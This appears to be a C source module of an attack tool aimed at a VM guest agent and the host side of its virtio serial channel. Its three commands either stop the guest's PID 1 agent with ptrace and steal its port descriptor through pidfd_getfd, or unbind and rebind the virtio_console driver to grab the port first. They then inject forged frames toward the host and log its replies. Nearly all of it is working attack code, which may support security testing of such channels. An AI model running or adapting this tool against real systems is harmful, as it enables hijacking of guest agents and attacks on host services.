/*
 * forge PORT FILE: speaks for the agent. Stops it, takes its descriptor of the virtio port of that name, sends the frames of
 * the file, and says what the host answers, a line for each frame:
 *
 *   accepted STREAM   reset STREAM ERRNO   data STREAM: the first line of it   frame TYPE STREAM   closed
 *
 * until the host has said nothing for a while or has closed its side. The agent goes on afterwards, and what the host said
 * meanwhile is lost to it.
 *
 * shout PORT FILE: does not listen to what the host answers.
 *
 * seize PORT FILE: instead takes the driver from all ports and gives it back, and opens the port before the agent could. Goes on in
 * the background, because nobody can be told any more.
 */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { AGENT = 1, HEADER = 12, DATA = 5, ACCEPTED = 19, RESET = 20, FILE_BYTES = 1 << 20, QUIET_MS = 1500 };

static uint8_t frames[FILE_BYTES];
static uint8_t answers[FILE_BYTES];

/* The device of a port, as `/dev/vport0p1`; false when there is none. */
static int find_device(const char *port, char *device, size_t size)
{
	DIR *ports = opendir("/sys/class/virtio-ports");
	struct dirent *item;
	device[0] = 0;
	while (ports && (item = readdir(ports))) {
		char path[512], text[64] = "";
		snprintf(path, sizeof path, "/sys/class/virtio-ports/%s/name", item->d_name);
		if (item->d_name[0] == '.')
			continue;
		int fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		(void)!read(fd, text, sizeof text - 1);
		close(fd);
		text[strcspn(text, "\n")] = 0;
		if (strcmp(text, port) == 0)
			snprintf(device, size, "/dev/%.64s", item->d_name);
	}
	if (ports)
		closedir(ports);
	return device[0] != 0;
}

/* Which of the agent's descriptors is that device. */
static int find_descriptor(const char *device)
{
	DIR *descriptors = opendir("/proc/1/fd");
	struct dirent *item;
	while (descriptors && (item = readdir(descriptors))) {
		char path[512], target[512];
		snprintf(path, sizeof path, "/proc/1/fd/%s", item->d_name);
		ssize_t n = readlink(path, target, sizeof target - 1);
		if (n <= 0)
			continue;
		target[n] = 0;
		if (strcmp(target, device) == 0)
			return atoi(item->d_name);
	}
	fail(device);
}

static int take_from_agent(const char *port)
{
	char device[96];
	if (!find_device(port, device, sizeof device))
		fail(port);
	if (ptrace(PTRACE_SEIZE, AGENT, NULL, NULL) < 0 || ptrace(PTRACE_INTERRUPT, AGENT, NULL, NULL) < 0)
		fail("stop the agent");
	int status;
	if (waitpid(AGENT, &status, __WALL) < 0)
		fail("wait for the agent");
	int agent = (int)syscall(SYS_pidfd_open, AGENT, 0);
	int fd = (int)syscall(SYS_pidfd_getfd, agent, find_descriptor(device), 0);
	if (fd < 0)
		fail("take the agent's descriptor");
	return fd;
}

static uint32_t number(const uint8_t *at)
{
	return at[0] | (uint32_t)at[1] << 8 | (uint32_t)at[2] << 16 | (uint32_t)at[3] << 24;
}

static void say(const uint8_t *frame, uint32_t length)
{
	uint32_t stream = number(frame + 4);
	const char *payload = (const char *)frame + HEADER;
	if (frame[0] == ACCEPTED)
		printf("accepted %u\n", stream);
	else if (frame[0] == RESET)
		printf("reset %u %s\n", stream, strerrorname_np((int)number(frame + HEADER)));
	else if (frame[0] == DATA)
		printf("data %u: %.*s\n", stream, (int)strcspn(payload, "\r\n"), payload);
	else
		printf("frame %u %u\n", frame[0], stream);
	(void)length;
}

/* Says each whole frame; returns what is left over. */
static size_t say_all(size_t size)
{
	size_t at = 0;
	while (at < size) {
		if (answers[at] == 0) {
			at++;
			continue;
		}
		if (size - at < HEADER || size - at - HEADER < number(answers + at + 8))
			break;
		say(answers + at, number(answers + at + 8));
		at += HEADER + number(answers + at + 8);
	}
	memmove(answers, answers + at, size - at);
	return size - at;
}

static int speak(int fd, size_t size)
{
	size_t sent = 0, kept = 0;
	for (;;) {
		struct pollfd asked = {.fd = fd, .events = (short)(POLLIN | (sent < size ? POLLOUT : 0))};
		int n = poll(&asked, 1, QUIET_MS);
		if (n == 0)
			return 0;
		if (asked.revents & POLLOUT) {
			ssize_t wrote = write(fd, frames + sent, size - sent);
			sent += wrote > 0 ? (size_t)wrote : 0;
		}
		if (asked.revents & POLLIN) {
			ssize_t got = read(fd, answers + kept, sizeof answers - 1 - kept);
			if (got > 0) {
				kept = say_all(kept + (size_t)got);
				continue;
			}
		}
		if (asked.revents & (POLLHUP | POLLERR)) {
			puts("closed");
			return 0;
		}
	}
}

int forge(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	size_t size = read_file(argv[1], frames, sizeof frames);
	return speak(take_from_agent(argv[0]), size);
}

int shout(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	size_t size = read_file(argv[1], frames, sizeof frames);
	return write(take_from_agent(argv[0]), frames, size) == (ssize_t)size ? 0 : 1;
}

static void write_text(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		fail(path);
	close(fd);
}

/* The device that the ports are on, as its driver names it. */
static void find_controller(char *name, size_t size)
{
	DIR *devices = opendir("/sys/bus/virtio/drivers/virtio_console");
	struct dirent *item;
	while (devices && (item = readdir(devices)))
		if (strncmp(item->d_name, "virtio", 6) == 0)
			snprintf(name, size, "%.16s", item->d_name);
	if (!devices)
		fail("the driver of the ports");
	closedir(devices);
}

int seize(int argc, char **argv)
{
	char controller[32] = "", device[96] = "";
	if (argc != 2)
		return 2;
	size_t size = read_file(argv[1], frames, sizeof frames);
	find_controller(controller, sizeof controller);
	if (fork() != 0)
		return 0;
	setsid();
	/* So that who started this still hears that it was. */
	poll(NULL, 0, QUIET_MS);
	write_text("/sys/bus/virtio/drivers/virtio_console/unbind", controller);
	write_text("/sys/bus/virtio/drivers/virtio_console/bind", controller);
	int fd = -1;
	for (int tries = 0; fd < 0 && tries < 600; tries++) {
		poll(NULL, 0, 50);
		if (find_device(argv[0], device, sizeof device))
			fd = open(device, O_RDWR | O_NONBLOCK);
	}
	return fd < 0 ? 1 : speak(fd, size);
}
